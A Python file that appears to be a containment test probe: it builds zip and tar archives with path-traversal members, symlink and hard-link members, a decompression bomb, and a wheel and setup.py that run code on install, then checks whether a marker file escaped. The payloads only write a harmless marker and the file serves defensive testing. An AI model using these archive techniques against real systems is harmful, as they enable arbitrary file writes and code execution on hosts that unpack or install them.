"""Leave archives that reach out of the place where they are unpacked.

Technique: Members named ../../x or /x (zip slip), a symbolic link as a member and then a member through it, hard
    links to files of the host, bombs of a million to one, wheels and source packages whose installation runs code.
    They work only on a host that unpacks or installs what it finds.
Success: something of them is found outside of the archive by the next execution.
Stopped by: workspace
"""

import io
import tarfile
import zipfile

MARK = "slipped-out-of-an-archive"


def leave(message):
    environment = canary["environment"]
    targets = [
        f"{'../' * depth}{place}/{MARK}"
        for depth in (0, 1, 4, 9)
        for place in (
            "tmp",
            "env",
            "dev/shm",
            f"{environment}".lstrip("/"),
            f"{os.path.dirname(canary['file'])}".lstrip("/"),
        )
    ]
    targets += [f"/tmp/{MARK}", f"{environment}/{MARK}", f"..\\..\\{MARK}"]
    for top in ("/work", "/tmp"):
        with zipfile.ZipFile(f"{top}/data.zip", "w", zipfile.ZIP_DEFLATED) as archive:
            for target in targets:
                archive.writestr(target, message)
            link = zipfile.ZipInfo("link")
            link.external_attr = 0o120777 << 16
            archive.writestr(link, environment)
            archive.writestr(f"link/{MARK}", message)
            archive.writestr("bomb", bytes(20 << 20))
        with tarfile.open(f"{top}/data.tar.gz", "w:gz") as archive:
            for target in targets:
                member = tarfile.TarInfo(target)
                member.size = len(message)
                archive.addfile(member, io.BytesIO(message.encode()))
            for kind, to in (
                (tarfile.SYMTYPE, environment),
                (tarfile.LNKTYPE, canary["file"]),
                (tarfile.CHRTYPE, ""),
                (tarfile.FIFOTYPE, ""),
            ):
                member = tarfile.TarInfo(f"kind-{kind!r}")
                member.type, member.linkname = kind, to
                archive.addfile(member)
        with zipfile.ZipFile(f"{top}/evil-1.0-py3-none-any.whl", "w") as wheel:
            wheel.writestr("evil.pth", f"import os; open('/tmp/{MARK}', 'w')")
            wheel.writestr("evil-1.0.dist-info/METADATA", "Name: evil\nVersion: 1.0\n")
        with open(f"{top}/setup.py", "w") as file:
            file.write(f"open('/tmp/{MARK}', 'w')\n")
        with open(f"{top}/requirements.txt", "w") as file:
            file.write("--index-url file:///work\n./evil-1.0-py3-none-any.whl\n-e .\n")


def find():
    places = (
        "/",
        "/work",
        "/tmp",
        "/env",
        "/env/bin",
        "/env/lib",
        "/dev/shm",
        "/usr",
        "/run",
        "/env/lib/python3.11/site-packages",
    )
    found = [
        f"{place}/{name}"
        for place in places
        if os.path.isdir(place)
        for name in os.listdir(place)
        if MARK in name or "evil" in name or name.startswith("data.")
    ]
    return ", ".join(found)


def twin():
    """A program packs files and unpacks them, and a bad archive is refused by the library's filter."""
    os.mkdir("/work/in")
    with open("/work/in/file", "w") as file:
        file.write("hello")
    with zipfile.ZipFile("/work/fine.zip", "w") as archive:
        archive.write("/work/in/file", "file")
    with zipfile.ZipFile("/work/fine.zip") as archive:
        archive.extractall("/work/out")
    with open("/work/out/file") as file:
        assert file.read() == "hello"
